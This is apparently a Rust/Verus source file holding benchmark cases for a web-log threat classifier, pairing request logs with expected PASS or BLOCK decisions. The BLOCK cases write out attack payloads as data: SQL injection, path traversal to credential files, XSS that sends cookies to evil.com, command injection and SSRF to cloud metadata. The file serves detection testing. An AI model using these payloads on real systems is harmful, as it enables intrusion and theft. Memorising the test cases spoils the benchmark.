//! The benchmark of threat analysis: its fixed cases and the tally of its
//! outcomes.
use vstd::prelude::*;
use crate::parser::{DefenseAction, ThreatAction};
use crate::text::str_eq;

verus! {

/// Which set a benchmark case belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum CaseGroup {
    /// Cases matching the few-shot examples of the prompt.
    Baseline,
    /// New cases not seen in the prompt.
    Holdout,
    /// Ambiguous logs: PASS is expected (no block without a clear attack),
    /// and low confidence is normal.
    Ambiguous,
}

/// One benchmark case: the events of an IP and the expected decision.
pub struct ThreatCase {
    pub ip: &'static str,
    pub events: Vec<&'static str>,
    pub expected_action: &'static str,
    pub ua_rotation: bool,
    pub unique_ua_count: usize,
    pub group: CaseGroup,
}

/// A case as values: group, IP, event lines, expected action, rotation flag
/// and number of distinct User-Agents.
pub open spec fn case_view(c: ThreatCase) -> (CaseGroup, Seq<char>, Seq<Seq<char>>, Seq<char>, bool, nat) {
    (
        c.group,
        c.ip@,
        c.events@.map_values(|e: &'static str| e@),
        c.expected_action@,
        c.ua_rotation,
        c.unique_ua_count as nat,
    )
}

/// The benchmark cases.
pub open spec fn threat_case_table() -> Seq<(CaseGroup, Seq<char>, Seq<Seq<char>>, Seq<char>, bool, nat)> {
    seq![
        (
            CaseGroup::Baseline,
            "192.168.1.50"@,
            seq![
                "/index.html 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"@,
                "/about 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"@,
                "/style.css 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"@,
                "/contact 404 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"@,
                "/favicon.ico 404 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Baseline,
            "10.0.0.55"@,
            seq![
                "/page?id=1' UNION SELECT username,password FROM users-- 403 | UA: sqlmap/1.8.1#stable"@,
                "/search?q=1 OR 1=1 500 | UA: sqlmap/1.8.1#stable"@,
                "/login?user=admin'-- 403 | UA: sqlmap/1.8.1#stable"@,
                "/api?token=1; DROP TABLE sessions 500 | UA: sqlmap/1.8.1#stable"@,
                "/page?id=1' AND 1=1-- 403 | UA: sqlmap/1.8.1#stable"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Baseline,
            "172.16.0.10"@,
            seq![
                "/page?file=../../../../etc/passwd 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)"@,
                "/download?path=..%2F..%2Fetc%2Fshadow 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)"@,
                "/include?page=....//....//etc/passwd 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)"@,
                "/view?doc=../../../windows/system32/config/sam 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)"@,
                "/read?file=/proc/self/environ 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Baseline,
            "203.0.113.42"@,
            seq![
                "POST /login 401 | UA: python-requests/2.31.0"@,
                "POST /login 401 | UA: python-requests/2.31.0"@,
                "POST /login 401 | UA: python-requests/2.31.0"@,
                "POST /login 401 | UA: python-requests/2.31.0"@,
                "POST /login 401 | UA: python-requests/2.31.0"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Baseline,
            "198.51.100.8"@,
            seq![
                "/admin 404 | UA: sqlmap/1.8.1#stable"@,
                "/phpmyadmin 404 | UA: sqlmap/1.8.1#stable"@,
                "/wp-admin 404 | UA: sqlmap/1.8.1#stable"@,
                "/manager 404 | UA: sqlmap/1.8.1#stable"@,
                "/.env 404 | UA: sqlmap/1.8.1#stable"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Baseline,
            "45.33.32.156"@,
            seq![
                "/login 401 | UA: Mozilla/5.0 Chrome/120.0"@,
                "/login 401 | UA: python-requests/2.31.0"@,
                "/login 401 | UA: curl/8.4.0"@,
                "/admin 403 | UA: Go-http-client/1.1"@,
                "/wp-login.php 404 | UA: Mozilla/4.0 (compatible; MSIE 6.0)"@,
            ],
            "BLOCK"@,
            true,
            5nat,
        ),
        (
            CaseGroup::Holdout,
            "185.220.101.34"@,
            seq![
                "/search?q=<script>document.location='http://evil.com/steal?c='+document.cookie</script> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"@,
                "/comment?body=<img src=x onerror=alert(1)> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"@,
                "/profile?name=<svg/onload=fetch('http://evil.com/'+document.cookie)> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"@,
                "/guestbook?msg=<iframe src=javascript:alert('XSS')> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Holdout,
            "91.240.118.200"@,
            seq![
                "/ping?host=127.0.0.1;cat /etc/passwd 500 | UA: curl/7.88.1"@,
                "/dns?domain=example.com|whoami 500 | UA: curl/7.88.1"@,
                "/exec?cmd=ls%20-la%20/tmp 403 | UA: curl/7.88.1"@,
                "/shell?input=$(id) 403 | UA: curl/7.88.1"@,
                "/api/run?payload=`uname -a` 500 | UA: curl/7.88.1"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Holdout,
            "10.20.30.40"@,
            seq![
                "GET /api/v1/products 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "GET /api/v1/products/42 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "POST /api/v1/cart 201 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "GET /api/v1/cart 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "DELETE /api/v1/cart/item/7 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Holdout,
            "66.249.66.1"@,
            seq![
                "GET /robots.txt 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"@,
                "GET /sitemap.xml 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"@,
                "GET /products 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"@,
                "GET /about 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"@,
                "GET /blog/post-1 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Holdout,
            "178.62.45.99"@,
            seq![
                "/backup 404 | UA: gobuster/3.6"@,
                "/config 404 | UA: gobuster/3.6"@,
                "/database 404 | UA: gobuster/3.6"@,
                "/secret 404 | UA: gobuster/3.6"@,
                "/internal 404 | UA: gobuster/3.6"@,
                "/debug 404 | UA: gobuster/3.6"@,
                "/test 404 | UA: gobuster/3.6"@,
            ],
            "BLOCK"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Holdout,
            "23.94.12.77"@,
            seq![
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0"@,
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Safari/604.1"@,
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Linux; Android 14) Chrome/120.0"@,
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Windows NT 10.0; rv:121.0) Gecko/20100101 Firefox/121.0"@,
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0"@,
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Safari/604.1"@,
                "POST /api/auth/login 401 | UA: python-requests/2.31.0"@,
            ],
            "BLOCK"@,
            true,
            5nat,
        ),
        (
            CaseGroup::Holdout,
            "104.248.33.91"@,
            seq![
                "/proxy?url=http://169.254.169.254/latest/meta-data/ 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0"@,
                "/fetch?target=http://localhost:6379/ 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0"@,
                "/redirect?to=http://127.0.0.1:8080/admin 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0"@,
                "/load?src=http://0.0.0.0:22/ 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0"@,
                "/api/fetch?endpoint=http://169.254.169.254/latest/api/token 403 | UA: curl/8.4.0"@,
            ],
            "BLOCK"@,
            true,
            2nat,
        ),
        (
            CaseGroup::Holdout,
            "192.168.5.100"@,
            seq![
                "GET / 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "GET /products 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "GET /products/999 404 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "GET /products/42 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "POST /products/42/review 201 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Holdout,
            "103.77.192.44"@,
            seq![
                "GET /api/v1/profile?id=842 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
                "GET /fetch?url=http://127.0.0.1:2375/version 403 | UA: curl/8.5.0"@,
                "GET /image?src=http://169.254.169.254/latest/meta-data/iam/security-credentials/ 403 | UA: python-requests/2.31.0"@,
                "GET /export?file=..%2F..%2F..%2Fetc%2Fpasswd 403 | UA: Go-http-client/1.1"@,
                "GET /api/v1/profile?id=843 200 | UA: Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15"@,
                "GET /proxy?target=http://localhost:6379/INFO 403 | UA: Wget/1.21.4"@,
            ],
            "BLOCK"@,
            true,
            5nat,
        ),
        (
            CaseGroup::Holdout,
            "185.141.88.17"@,
            seq![
                "GET /catalog?page=1 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
                "GET /search?q=' UNION SELECT user,password FROM users-- 500 | UA: python-requests/2.31.0"@,
                "POST /login 401 | UA: curl/8.5.0"@,
                "GET /download?file=..%2F..%2Fetc%2Fpasswd 403 | UA: sqlmap/1.8.2#stable"@,
                "GET /admin 403 | UA: Go-http-client/1.1"@,
            ],
            "BLOCK"@,
            true,
            4nat,
        ),
        (
            CaseGroup::Holdout,
            "192.168.10.77"@,
            seq![
                "GET /home 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
                "GET /catalog/laptops 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
                "GET /product/lenovo-thinkpad 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
                "POST /cart 201 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
                "GET /checkout 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Ambiguous,
            "10.11.12.13"@,
            seq![
                "GET /reports?status=SELECTED&year=2024 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "GET /reports/export?columns=SELECTED,name,date 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "GET /dashboard 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
                "GET /settings 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Ambiguous,
            "172.20.30.40"@,
            seq![
                "POST /login 401 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "POST /login 401 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "GET / 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
                "GET /help 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Ambiguous,
            "198.18.0.50"@,
            seq![
                "GET /news 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0"@,
                "GET /article/42 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0"@,
                "HEAD /article/42 200 | UA: curl/8.5.0"@,
                "GET /contact 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0"@,
                "GET /about 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
        (
            CaseGroup::Ambiguous,
            "10.99.1.2"@,
            seq![
                "GET /docs/../docs/install 200 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"@,
                "GET /static/app.js 200 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"@,
                "GET /api/health 200 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"@,
            ],
            "PASS"@,
            false,
            1nat,
        ),
    ]
}

/// The benchmark cases: baseline cases matching the few-shot examples of
/// the prompt, holdout cases, and ambiguous cases where PASS is expected.
pub fn threat_cases() -> (cases: Vec<ThreatCase>)
    ensures
        cases@.map_values(|c: ThreatCase| case_view(c)) == threat_case_table(),
{
    let cases = vec![
        ThreatCase {
            ip: "192.168.1.50",
            events: vec![
                "/index.html 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
                "/about 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
                "/style.css 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
                "/contact 404 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
                "/favicon.ico 404 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Baseline,
        },
        ThreatCase {
            ip: "10.0.0.55",
            events: vec![
                "/page?id=1' UNION SELECT username,password FROM users-- 403 | UA: sqlmap/1.8.1#stable",
                "/search?q=1 OR 1=1 500 | UA: sqlmap/1.8.1#stable",
                "/login?user=admin'-- 403 | UA: sqlmap/1.8.1#stable",
                "/api?token=1; DROP TABLE sessions 500 | UA: sqlmap/1.8.1#stable",
                "/page?id=1' AND 1=1-- 403 | UA: sqlmap/1.8.1#stable",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Baseline,
        },
        ThreatCase {
            ip: "172.16.0.10",
            events: vec![
                "/page?file=../../../../etc/passwd 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)",
                "/download?path=..%2F..%2Fetc%2Fshadow 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)",
                "/include?page=....//....//etc/passwd 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)",
                "/view?doc=../../../windows/system32/config/sam 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)",
                "/read?file=/proc/self/environ 403 | UA: Mozilla/5.0 (compatible; Nikto/2.1)",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Baseline,
        },
        ThreatCase {
            ip: "203.0.113.42",
            events: vec![
                "POST /login 401 | UA: python-requests/2.31.0",
                "POST /login 401 | UA: python-requests/2.31.0",
                "POST /login 401 | UA: python-requests/2.31.0",
                "POST /login 401 | UA: python-requests/2.31.0",
                "POST /login 401 | UA: python-requests/2.31.0",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Baseline,
        },
        ThreatCase {
            ip: "198.51.100.8",
            events: vec![
                "/admin 404 | UA: sqlmap/1.8.1#stable",
                "/phpmyadmin 404 | UA: sqlmap/1.8.1#stable",
                "/wp-admin 404 | UA: sqlmap/1.8.1#stable",
                "/manager 404 | UA: sqlmap/1.8.1#stable",
                "/.env 404 | UA: sqlmap/1.8.1#stable",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Baseline,
        },
        ThreatCase {
            ip: "45.33.32.156",
            events: vec![
                "/login 401 | UA: Mozilla/5.0 Chrome/120.0",
                "/login 401 | UA: python-requests/2.31.0",
                "/login 401 | UA: curl/8.4.0",
                "/admin 403 | UA: Go-http-client/1.1",
                "/wp-login.php 404 | UA: Mozilla/4.0 (compatible; MSIE 6.0)",
            ],
            expected_action: "BLOCK",
            ua_rotation: true,
            unique_ua_count: 5,
            group: CaseGroup::Baseline,
        },
        ThreatCase {
            ip: "185.220.101.34",
            events: vec![
                "/search?q=<script>document.location='http://evil.com/steal?c='+document.cookie</script> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0",
                "/comment?body=<img src=x onerror=alert(1)> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0",
                "/profile?name=<svg/onload=fetch('http://evil.com/'+document.cookie)> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0",
                "/guestbook?msg=<iframe src=javascript:alert('XSS')> 403 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "91.240.118.200",
            events: vec![
                "/ping?host=127.0.0.1;cat /etc/passwd 500 | UA: curl/7.88.1",
                "/dns?domain=example.com|whoami 500 | UA: curl/7.88.1",
                "/exec?cmd=ls%20-la%20/tmp 403 | UA: curl/7.88.1",
                "/shell?input=$(id) 403 | UA: curl/7.88.1",
                "/api/run?payload=`uname -a` 500 | UA: curl/7.88.1",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "10.20.30.40",
            events: vec![
                "GET /api/v1/products 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "GET /api/v1/products/42 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "POST /api/v1/cart 201 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "GET /api/v1/cart 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "DELETE /api/v1/cart/item/7 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "66.249.66.1",
            events: vec![
                "GET /robots.txt 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "GET /sitemap.xml 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "GET /products 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "GET /about 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "GET /blog/post-1 200 | UA: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "178.62.45.99",
            events: vec![
                "/backup 404 | UA: gobuster/3.6",
                "/config 404 | UA: gobuster/3.6",
                "/database 404 | UA: gobuster/3.6",
                "/secret 404 | UA: gobuster/3.6",
                "/internal 404 | UA: gobuster/3.6",
                "/debug 404 | UA: gobuster/3.6",
                "/test 404 | UA: gobuster/3.6",
            ],
            expected_action: "BLOCK",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            // Brute force with rotating User-Agents: 7 attempts, all 401,
            // from 5 distinct User-Agents.
            ip: "23.94.12.77",
            events: vec![
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Safari/604.1",
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Linux; Android 14) Chrome/120.0",
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Windows NT 10.0; rv:121.0) Gecko/20100101 Firefox/121.0",
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
                "POST /api/auth/login 401 | UA: Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Safari/604.1",
                "POST /api/auth/login 401 | UA: python-requests/2.31.0",
            ],
            expected_action: "BLOCK",
            ua_rotation: true,
            unique_ua_count: 5,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "104.248.33.91",
            events: vec![
                "/proxy?url=http://169.254.169.254/latest/meta-data/ 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0",
                "/fetch?target=http://localhost:6379/ 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0",
                "/redirect?to=http://127.0.0.1:8080/admin 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0",
                "/load?src=http://0.0.0.0:22/ 403 | UA: Mozilla/5.0 (X11; Ubuntu; Linux x86_64) Chrome/119.0",
                "/api/fetch?endpoint=http://169.254.169.254/latest/api/token 403 | UA: curl/8.4.0",
            ],
            expected_action: "BLOCK",
            ua_rotation: true,
            unique_ua_count: 2,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "192.168.5.100",
            events: vec![
                "GET / 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "GET /products 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "GET /products/999 404 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "GET /products/42 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "POST /products/42/review 201 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "103.77.192.44",
            events: vec![
                "GET /api/v1/profile?id=842 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
                "GET /fetch?url=http://127.0.0.1:2375/version 403 | UA: curl/8.5.0",
                "GET /image?src=http://169.254.169.254/latest/meta-data/iam/security-credentials/ 403 | UA: python-requests/2.31.0",
                "GET /export?file=..%2F..%2F..%2Fetc%2Fpasswd 403 | UA: Go-http-client/1.1",
                "GET /api/v1/profile?id=843 200 | UA: Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15",
                "GET /proxy?target=http://localhost:6379/INFO 403 | UA: Wget/1.21.4",
            ],
            expected_action: "BLOCK",
            ua_rotation: true,
            unique_ua_count: 5,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "185.141.88.17",
            events: vec![
                "GET /catalog?page=1 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
                "GET /search?q=' UNION SELECT user,password FROM users-- 500 | UA: python-requests/2.31.0",
                "POST /login 401 | UA: curl/8.5.0",
                "GET /download?file=..%2F..%2Fetc%2Fpasswd 403 | UA: sqlmap/1.8.2#stable",
                "GET /admin 403 | UA: Go-http-client/1.1",
            ],
            expected_action: "BLOCK",
            ua_rotation: true,
            unique_ua_count: 4,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "192.168.10.77",
            events: vec![
                "GET /home 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
                "GET /catalog/laptops 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
                "GET /product/lenovo-thinkpad 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
                "POST /cart 201 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
                "GET /checkout 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Holdout,
        },
        ThreatCase {
            ip: "10.11.12.13",
            events: vec![
                "GET /reports?status=SELECTED&year=2024 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "GET /reports/export?columns=SELECTED,name,date 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "GET /dashboard 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
                "GET /settings 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/122.0",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Ambiguous,
        },
        ThreatCase {
            ip: "172.20.30.40",
            events: vec![
                "POST /login 401 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "POST /login 401 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "GET / 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                "GET /help 200 | UA: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Ambiguous,
        },
        ThreatCase {
            ip: "198.18.0.50",
            events: vec![
                "GET /news 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
                "GET /article/42 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
                "HEAD /article/42 200 | UA: curl/8.5.0",
                "GET /contact 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
                "GET /about 200 | UA: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/121.0",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Ambiguous,
        },
        ThreatCase {
            ip: "10.99.1.2",
            events: vec![
                "GET /docs/../docs/install 200 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
                "GET /static/app.js 200 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
                "GET /api/health 200 | UA: Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
            ],
            expected_action: "PASS",
            ua_rotation: false,
            unique_ua_count: 1,
            group: CaseGroup::Ambiguous,
        },
    ];
    assert(cases@.len() == 21);
    assert(cases@[0].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[0].2);
    assert(cases@[1].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[1].2);
    assert(cases@[2].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[2].2);
    assert(cases@[3].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[3].2);
    assert(cases@[4].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[4].2);
    assert(cases@[5].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[5].2);
    assert(cases@[6].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[6].2);
    assert(cases@[7].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[7].2);
    assert(cases@[8].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[8].2);
    assert(cases@[9].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[9].2);
    assert(cases@[10].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[10].2);
    assert(cases@[11].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[11].2);
    assert(cases@[12].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[12].2);
    assert(cases@[13].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[13].2);
    assert(cases@[14].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[14].2);
    assert(cases@[15].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[15].2);
    assert(cases@[16].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[16].2);
    assert(cases@[17].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[17].2);
    assert(cases@[18].events@.map_values(|e: &'static str| e@) =~= threat_case_table()[18].2);
